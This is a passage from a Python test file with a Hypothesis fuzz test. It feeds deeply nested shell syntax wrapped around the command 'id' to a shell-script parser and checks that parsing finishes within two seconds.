    parse_script(data.decode("utf-8", "surrogateescape"))
    parse_script(data.decode("latin-1"))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.integers(min_value=1, max_value=3000), st.sampled_from(["(", "$(", "`", "{", "sh -c '", "\"$(", "[[ "]))
def test_fuzz_deep_nesting(depth: int, opener: str) -> None:
    start = time.process_time()
    parse_script(opener * depth + "id" + ")" * depth)
    assert time.process_time() - start < 2.0
